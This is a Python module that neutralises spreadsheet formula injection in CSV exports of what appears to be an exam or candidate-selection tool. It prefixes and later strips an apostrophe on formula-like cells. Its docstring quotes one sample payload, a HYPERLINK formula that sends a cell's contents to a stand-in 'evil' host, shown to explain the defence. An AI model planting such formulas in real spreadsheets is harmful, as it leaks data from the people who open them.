"""Cells that a spreadsheet would run as a formula, written as text instead.

A candidate named ``=HYPERLINK("http://evil/?"&A2,"klik")`` or a supplied question whose
stem starts with ``=`` must arrive in a committee member's spreadsheet as text, never as
a live formula (docs/security.md, "Exports"). Every CSV export goes through
``escape_formula`` (a leading apostrophe, which spreadsheets hide and treat as "text");
XLSX writers store such cells with the string type instead, so nothing is added.
The CSV importer removes the apostrophe again (``unescape_formula``), so an exported bank
re-imports exactly.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


def is_formula_like(value: str) -> bool:
    """Starts like a formula and is not simply a signed number such as ``-1`` or ``+0,5``."""
    return value.startswith(FORMULA_START) and not _NUMBER.match(value)


def escape_formula(value: Any) -> Any:
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def unescape_formula(text: str) -> str:
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text
